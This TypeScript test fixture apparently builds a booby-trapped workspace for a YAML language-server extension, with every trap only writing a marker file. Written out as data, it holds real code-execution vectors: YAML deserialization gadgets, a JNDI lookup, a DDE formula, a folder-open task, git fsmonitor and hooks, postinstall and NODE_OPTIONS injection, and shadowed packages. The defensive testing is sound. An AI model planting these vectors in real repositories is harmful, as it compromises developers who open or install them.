/** A workspace by someone who wants it to be run: settings, modules, hooks, addresses and tags, each with a trap. */

/** Writes a file beside the workspace, should it ever run. */
const TRAP = (name: string) =>
  `require('node:fs').writeFileSync(require('node:path').join(__dirname, 'ran-${name}'), '');\n`;
const ADDRESS = 'http://127.0.0.1:9/evil';

const MODULE = (name: string) => JSON.stringify({ name, main: 'index.js', version: '9.9.9' });
/** Packages that are in our bundles, and one that servers look for in users' folders. */
const SHADOWED = ['yaml', 'vscode-languageserver', 'edtf', 'typescript', 'security-initiatives'];

export const MANIFEST = `# yaml-language-server: $schema=${ADDRESS}.json
$schema: ${ADDRESS}.json
dataset: !!js/function 'function () { return process.exit(3) }'
extends: ./evil.js
plugins: [./evil.js, evil]
rulesDirectory: ./rules
schema: ./evil.schema.json
rules:
  unknown-reference: warning
  ./evil.js: error
  '$(touch ran-rule)': error
`;

/** Records with all that other tools run, include or fetch. */
export const RECORD = `# yaml-language-server: $schema=${ADDRESS}.json
%TAG ! tag:evil.test,2025:
---
$schema: ${ADDRESS}.json
kind: summit
id: gabala
name: !!python/object/apply:os.system ['touch ran-python']
organization: ots
status: held
date: !!js/undefined 2025-10-07
host: AZX
notes: !include ./evil.js
venue: !!java.util.ScriptEngineManager [!!java.net.URL ["${ADDRESS}"]]
city: "\${jndi:ldap://127.0.0.1:9/x}"
theme: '=cmd|''/c touch ran-sheet''!A0'
citations: [{ source: here }, { source: there }]
---
kind: source
id: here
publisher: '[x](command:workbench.action.terminal.new) \`$(touch ran-shell)\`'
url: command:workbench.action.terminal.new
text: evil.js
---
kind: source
id: there
publisher: There
url: ${ADDRESS}
text: ${ADDRESS}
`;

/** Names of what may be opened: records, manifests, what a source names as its text, and files on their way to another name. */
export const READABLE = /^(?:[^.].*\.ya?ml|evil\.js|.*\/\.[\da-f-]{36}\.tmp)$/;

/** Files by their names, with slashes. */
export const HOSTILE: Readonly<Record<string, string>> = {
  'initiatives.yaml': MANIFEST,
  'records/gabala.yaml': RECORD,
  'evil.js': TRAP('plugin'),
  'evil.schema.json': `{ "$ref": "${ADDRESS}.json" }`,
  'rules/evil.js': TRAP('rule'),
  '.vscode/settings.json': JSON.stringify({
    'yaml.schemas': { [`${ADDRESS}.json`]: '**/*.yaml' },
    'securityInitiatives.server.path': './evil.js',
    'securityInitiatives.rules': { './evil.js': 'error' },
    'typescript.tsdk': './node_modules/typescript/lib',
    'terminal.integrated.env.linux': { NODE_OPTIONS: '--require ./evil.js' },
  }),
  '.vscode/tasks.json': '{ "tasks": [{ "command": "node evil.js", "runOptions": { "runOn": "folderOpen" } }] }',
  'package.json': JSON.stringify({
    type: 'commonjs',
    imports: { '#yaml': './evil.js' },
    scripts: { postinstall: 'node evil.js' },
    'security-initiatives': { plugins: ['./evil.js'] },
  }),
  '.npmrc': `registry=${ADDRESS}\nnode-options=--require ./evil.js\n`,
  '.yarnrc': 'yarn-path "./evil.js"\n',
  '.yarnrc.yml': 'yarnPath: ./evil.js\n',
  '.pnp.cjs': TRAP('pnp'),
  '.env': 'NODE_OPTIONS=--require ./evil.js\n',
  '.editorconfig': 'root = true\n',
  'security-initiatives.config.js': TRAP('config'),
  '.git/hooks/post-checkout': '#!/bin/sh\ntouch ran-hook\n',
  '.git/config': '[core]\n fsmonitor = touch ran-monitor\n',
  ...Object.fromEntries(
    SHADOWED.flatMap((name) => [
      [`node_modules/${name}/package.json`, MODULE(name)],
      [`node_modules/${name}/index.js`, TRAP(name)],
    ]),
  ),
  'node_modules/.bin/git': '#!/bin/sh\ntouch ran-git\n',
};
